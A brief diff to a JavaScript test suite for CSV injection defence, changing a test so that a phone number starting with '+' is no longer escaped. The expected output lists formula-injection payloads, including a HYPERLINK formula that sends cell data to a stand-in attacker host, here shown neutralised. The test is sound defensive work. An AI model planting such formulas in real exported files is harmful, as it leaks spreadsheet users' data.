@@ -80,7 +80,7 @@ describe('CSV injection', () => {
     }).toString('utf8');
     expect(csv.split('\n').slice(1, -1)).toEqual([
       `"'=HYPERLINK(""http://evil.example/?""&A1,""click"")"`,
-      "'+91 98450 12345",
+      '+91 98450 12345', // a phone number is not a formula (issue 13)
       "'-2+3",
       "'@SUM(A1)",
       "'\t=1",
